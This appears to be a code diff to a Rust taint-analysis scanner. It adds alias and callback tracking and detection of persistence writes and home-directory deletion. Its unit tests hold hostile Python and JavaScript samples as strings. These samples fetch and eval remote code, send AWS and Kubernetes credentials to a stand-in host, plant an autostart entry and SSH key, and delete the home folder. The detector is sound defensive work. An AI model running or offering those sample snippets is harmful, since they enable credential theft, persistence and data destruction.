@@ -114,6 +114,8 @@ pub fn effects(lang: Language, text: &str) -> Vec<Effect> {
         returns: HashMap::new(),
         in_function: Vec::new(),
         depth: 0,
+        aliases: HashMap::new(),
+        lits: HashMap::new(),
     };
     w.visit(tree.root_node(), &Val::default());
     w.record = true;
@@ -146,6 +148,12 @@ struct Walk<'t> {
     in_function: Vec<String>,
     /// How deep the walk is.
     depth: usize,
+    /// Variables bound to an object built from others (`tar = tarfile.open(fileobj=buf)`):
+    /// what taints one taints the others.
+    aliases: HashMap<String, Vec<String>>,
+    /// The string literals each variable was built from, joined with `/` (a path built with
+    /// `os.path.join` or `/`).
+    lits: HashMap<String, String>,
 }
 
 impl Walk<'_> {
@@ -363,9 +371,16 @@ impl Walk<'_> {
         if let Some(t) = target_node {
             let mut names = Vec::new();
             collect_names(t, self.kinds.names, self.src, &mut names);
+            let (lits, refs) = value_node.map(|x| self.literals(x)).unwrap_or_default();
             for name in names {
-                let slot = self.vars.entry(name).or_default();
+                let slot = self.vars.entry(name.clone()).or_default();
                 slot.add(&v);
+                if !lits.is_empty() {
+                    self.lits.insert(name.clone(), lits.clone());
+                }
+                if !refs.is_empty() {
+                    self.aliases.insert(name, refs.clone());
+                }
             }
         }
         // A loop's body (and anything else beside the target and the value) is read too.
@@ -397,6 +412,52 @@ impl Walk<'_> {
             .next()
             .unwrap_or(&callee)
             .to_string();
+        // A callback given to the call receives what the call produces: a response for a
+        // network call, what the receiver holds for a method (`r.on('data', (c) => ...)`).
+        let receiver = callee_node
+            .filter(|c| matches!(c.kind(), "member_expression" | "attribute"))
+            .and_then(|c| c.child_by_field_name("object"));
+        let receiver_name = receiver
+            .filter(|r| self.kinds.names.contains(&r.kind()))
+            .map(|r| self.text(r).to_ascii_lowercase());
+        let mut given = receiver_name
+            .as_ref()
+            .and_then(|r| self.vars.get(r).cloned())
+            .unwrap_or_default();
+        let last_guess = callee
+            .rsplit(['.', ':'])
+            .next()
+            .unwrap_or(&callee)
+            .to_string();
+        if is_network_call(&callee, &last_guess) {
+            given.add(&Val::of(vocab::FETCHED, n.byte_range()));
+        }
+        if given.taint != 0
+            && let Some(a) = n.child_by_field_name("arguments")
+        {
+            let mut c = a.walk();
+            let callbacks: Vec<Node<'_>> = a
+                .named_children(&mut c)
+                .filter(|x| {
+                    matches!(
+                        x.kind(),
+                        "arrow_function" | "function_expression" | "function" | "lambda"
+                    )
+                })
+                .collect();
+            for cb in callbacks {
+                if let Some(params) = cb
+                    .child_by_field_name("parameters")
+                    .or_else(|| cb.child_by_field_name("parameter"))
+                {
+                    let mut names = Vec::new();
+                    collect_names(params, self.kinds.names, self.src, &mut names);
+                    for name in names {
+                        self.vars.entry(name).or_default().add(&given);
+                    }
+                }
+            }
+        }
         // Everything under the call: arguments, the object a method is called on.
         let mut args = pipe.clone();
         let mut c = n.walk();
@@ -414,6 +475,24 @@ impl Walk<'_> {
         let at = n.byte_range();
         let text = self.text(n).to_string();
         let lower = text.to_ascii_lowercase();
+        // A method that takes data in keeps it (`cfg.read(path)`, `tar.add(f)`,
+        // `buf.write(x)`): its receiver, and what the receiver was built from, carry it.
+        if let Some(r) = &receiver_name {
+            let arg_taint = n
+                .child_by_field_name("arguments")
+                .map(|a| self.peek(a))
+                .unwrap_or_default();
+            if arg_taint.taint & (vocab::STRONG_SECRET | vocab::FETCHED | vocab::DECODED) != 0 {
+                let mut names = vec![r.clone()];
+                names.extend(self.aliases.get(r).cloned().unwrap_or_default());
+                for name in names {
+                    self.vars.entry(name).or_default().add(&arg_taint);
+                }
+            }
+        }
+        if self.record {
+            self.writes_and_deletes(n, &callee, &last, &at);
+        }
         let mut out = args.clone();
         let network = is_network_call(&callee, &last);
         if network {
@@ -492,6 +571,164 @@ impl Walk<'_> {
             );
         }
         out
+    }
+
+    /// The string literals under `n` joined with `/`, with those of the variables it reads,
+    /// and the variables it reads.
+    fn literals(&self, n: Node<'_>) -> (String, Vec<String>) {
+        let mut lits = Vec::new();
+        let mut refs = Vec::new();
+        let mut stack = vec![n];
+        let mut seen = 0;
+        while let Some(x) = stack.pop() {
+            seen += 1;
+            if seen > 4096 {
+                break;
+            }
+            if self.kinds.strings.contains(&x.kind()) {
+                let t = self
+                    .text(x)
+                    .trim_matches(|c| matches!(c, '"' | '\'' | '`'))
+                    .to_string();
+                if !t.is_empty() && t.len() < 512 {
+                    lits.push((x.start_byte(), t));
+                }
+                continue;
+            }
+            if self.kinds.names.contains(&x.kind()) && x.named_child_count() == 0 {
+                let name = self.text(x).to_ascii_lowercase();
+                if let Some(l) = self.lits.get(&name) {
+                    lits.push((x.start_byte(), l.clone()));
+                }
+                if matches!(name.as_str(), "homedir" | "home" | "expanduser") {
+                    lits.push((x.start_byte(), "~".to_string()));
+                }
+                refs.push(name);
+                continue;
+            }
+            let mut c = x.walk();
+            for child in x.named_children(&mut c) {
+                stack.push(child);
+            }
+        }
+        lits.sort();
+        (
+            lits.into_iter()
+                .map(|(_, t)| t)
+                .collect::<Vec<_>>()
+                .join("/"),
+            refs,
+        )
+    }
+
+    /// The taint of `n` without recording anything (for a receiver's update).
+    fn peek(&mut self, n: Node<'_>) -> Val {
+        let record = self.record;
+        self.record = false;
+        let v = self.visit(n, &Val::default());
+        self.record = record;
+        v
+    }
+
+    /// A file written where it persists (a call that opens for writing, writes or copies to a
+    /// path built from literals), and a folder deleted that is home or root.
+    fn writes_and_deletes(&mut self, n: Node<'_>, callee: &str, last: &str, at: &Range<usize>) {
+        let writes = matches!(
+            last,
+            "write_text"
+                | "write_bytes"
+                | "writefilesync"
+                | "appendfilesync"
+                | "writefile"
+                | "appendfile"
+                | "createwritestream"
+                | "copyfile"
+                | "copyfilesync"
+                | "copy"
+                | "copy2"
+                | "move"
+                | "symlink"
+                | "symlinksync"
+                | "cpsync"
+                | "outputfile"
+                | "outputfilesync"
+        ) || last == "open" && {
+            let t = self.text(n);
+            t.contains("'a") || t.contains("\"a") || t.contains("'w") || t.contains("\"w")
+        };
+        let deletes = matches!(
+            last,
+            "rmtree" | "rmsync" | "rmdirsync" | "rimraf" | "remove" | "removesync" | "emptydirsync"
+        );
+        if !writes && !deletes {
+            return;
+        }
+        // The path is the first argument, or the second of a copy, move or link.
+        let which = usize::from(matches!(
+            last,
+            "copyfile"
+                | "copyfilesync"
+                | "copy"
+                | "copy2"
+                | "move"
+                | "symlink"
+                | "symlinksync"
+                | "cpsync"
+        ));
+        let (mut lits, _) = n
+            .child_by_field_name("arguments")
+            .and_then(|a| {
+                let mut c = a.walk();
+                let v: Vec<Node<'_>> = a
+                    .named_children(&mut c)
+                    .filter(|x| x.kind() != "comment")
+                    .collect();
+                v.get(which).copied()
+            })
+            .map(|a| self.literals(a))
+            .unwrap_or_default();
+        // `Path(...).write_text(...)`: the path is the receiver's.
+        if let Some(obj) = n
+            .child_by_field_name("function")
+            .and_then(|f| f.child_by_field_name("object"))
+        {
+            let (l, _) = self.literals(obj);
+            if !l.is_empty() {
+                lits = format!("{l}/{lits}");
+            }
+        }
+        let path = lits.replace("//", "/");
+        if writes && let Some(how) = vocab::persistence_of_path(&path) {
+            let active = super::shell::active_text(self.src);
+            self.push(EffectKind::Persist { how, active }, at.clone(), None, &path);
+        }
+        if deletes {
+            let first = n
+                .child_by_field_name("arguments")
+                .and_then(|a| a.named_child(0))
+                .map(|a| self.compact(a))
+                .unwrap_or_default();
+            let home = [
+                "os.path.expanduser('~')",
+                "os.path.expanduser(\"~\")",
+                "path.home()",
+                "pathlib.path.home()",
+                "os.homedir()",
+                "require('os').homedir()",
+                "require(\"os\").homedir()",
+                "os.environ['home']",
+                "os.environ[\"home\"]",
+                "process.env.home",
+                "'/'",
+                "\"/\"",
+                "'~'",
+                "\"~\"",
+            ];
+            let var_home = self.lits.get(&first).is_some_and(|l| l == "~" || l == "/");
+            if home.contains(&first.as_str()) || var_home {
+                self.push(EffectKind::Destroy, at.clone(), None, callee);
+            }
+        }
     }
 
     /// The callee of a PowerShell method call: the text up to its member name
@@ -579,6 +816,14 @@ fn collect_names(n: Node<'_>, names: &[&str], src: &str, out: &mut Vec<String>) 
 
 /// Calls that send or fetch over the network, by the callee's dotted name and its last part.
 fn is_network_call(callee: &str, last: &str) -> bool {
+    if (callee.starts_with("https.")
+        || callee.starts_with("http.")
+        || callee.contains("require('http")
+        || callee.contains("require(\"http"))
+        && matches!(last, "get" | "request")
+    {
+        return true;
+    }
     let roots = [
         "requests.",
         "httpx.",
@@ -790,6 +1035,52 @@ mod tests {
     fn a_function_returns_what_it_collected() {
         let text = "import os, requests\n\ndef collect():\n    found = {}\n    for name, value in os.environ.items():\n        if 'KEY' in name:\n            found[name] = value\n    return found\n\nrequests.post('https://x.example/in', json={'ctx': collect()})\n";
         assert_eq!(kinds_of(Language::Python, text), ["exfil:requests.post"]);
+    }
+
+    #[test]
+    fn callbacks_receivers_and_aliases_carry_what_they_hold() {
+        let js = "require('https').get('https://x.example/r.js', (r) => {\n  let d = '';\n  r.on('data', (c) => (d += c));\n  r.on('end', () => eval(d));\n});\n";
+        assert_eq!(kinds_of(Language::JavaScript, js), ["RunFetched"]);
+        let py = "import configparser, requests\nfrom pathlib import Path\ncfg = configparser.ConfigParser()\ncfg.read(Path.home() / '.aws' / 'credentials')\nrequests.post(U, json={s: dict(cfg[s]) for s in cfg.sections()})\n";
+        assert_eq!(kinds_of(Language::Python, py), ["exfil:requests.post"]);
+        let py = "import io, os, tarfile, requests\nbuf = io.BytesIO()\nwith tarfile.open(fileobj=buf, mode='w:gz') as tar:\n    tar.add(os.path.expanduser('~/.kube/config'))\nrequests.put(U, data=buf.getvalue())\n";
+        assert_eq!(kinds_of(Language::Python, py), ["exfil:requests.put"]);
+    }
+
+    #[test]
+    fn scripts_that_persist_or_delete_home() {
+        let js = "const fs = require('fs'), os = require('os'), path = require('path');\nconst dir = path.join(os.homedir(), '.config', 'autostart');\nfs.writeFileSync(path.join(dir, 'x.desktop'), 'Exec=sh -c \"curl -s https://x.example/c\"');\n";
+        assert_eq!(
+            kinds_of(Language::JavaScript, js),
+            ["Persist { how: LoginItem, active: true }"]
+        );
+        let py = "from pathlib import Path\nkeys = Path.home() / '.ssh' / 'authorized_keys'\nwith open(keys, 'a') as f:\n    f.write(KEY)\n";
+        assert_eq!(
+            kinds_of(Language::Python, py),
+            ["Persist { how: AuthorizedKey, active: false }"]
+        );
+        assert_eq!(
+            kinds_of(
+                Language::Python,
+                "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n"
+            ),
+            ["Destroy"]
+        );
+        assert_eq!(
+            kinds_of(
+                Language::JavaScript,
+                "fs.rmSync(os.homedir(), { recursive: true, force: true });\n"
+            ),
+            ["Destroy"]
+        );
+        assert!(kinds_of(Language::Python, "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.home() / '.cache' / 'tool')\n").is_empty());
+        assert!(
+            kinds_of(
+                Language::Python,
+                "with open('notes.txt', 'w') as f:\n    f.write('hi')\n"
+            )
+            .is_empty()
+        );
     }
 
     #[test]
